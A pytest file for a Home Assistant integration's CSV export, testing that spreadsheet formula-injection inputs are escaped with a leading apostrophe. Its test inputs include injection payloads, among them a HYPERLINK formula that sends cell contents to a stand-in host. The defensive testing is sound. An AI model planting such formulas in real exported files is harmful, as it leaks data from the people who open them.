"""What stands in a row and in a cell, and what never does."""

from __future__ import annotations

import csv
from io import StringIO

import pytest

from custom_components.mqtt_dispatch.exporting.rows import (
    COLUMNS,
    Row,
    as_csv,
    harmless,
    header,
)


def cells(text: str) -> list[list[str]]:
    """Return the cells of a file as a spreadsheet reads them."""
    return [*csv.reader(StringIO(text, newline=""))]


def a_row(**fields: object) -> Row:
    """Return a row with nothing but some fields."""
    return {**dict.fromkeys(COLUMNS), **fields}


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1+1",
        "\N{FULLWIDTH EQUALS SIGN}1",
        "\N{FULLWIDTH COMMERCIAL AT}A",
        "\N{FULLWIDTH HYPHEN-MINUS}1",
        '=HYPERLINK("http://example.com?"&A1,"jam")',
    ],
)
def test_what_a_spreadsheet_would_work_out_it_shows(text: str) -> None:
    assert harmless(text) == f"'{text}"
    found = cells(as_csv([a_row(reason=text, node_name=text, station=text)]))
    assert sorted(filter(None, found[0])) == [f"'{text}"] * 3


@pytest.mark.parametrize("text", ["", "jam", "1-2", "a=b", "Frühstück, Küche", "'"])
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_cells_come_back_as_they_were_written() -> None:
    row = a_row(
        station='Kitchen "left", first\nfloor', attempts=-3, params={"pet": "Käse"}
    )

    ((station, *_),) = rows = cells(as_csv([row]))

    assert station == row["station"]
    by_column = dict(zip(COLUMNS, rows[0], strict=True))
    assert by_column["attempts"] == "-3"
    assert by_column["params"] == '{"pet": "Käse"}'
    assert by_column["reason"] == ""


def test_the_first_line_names_the_columns() -> None:
    assert cells(header()) == [[*COLUMNS]]
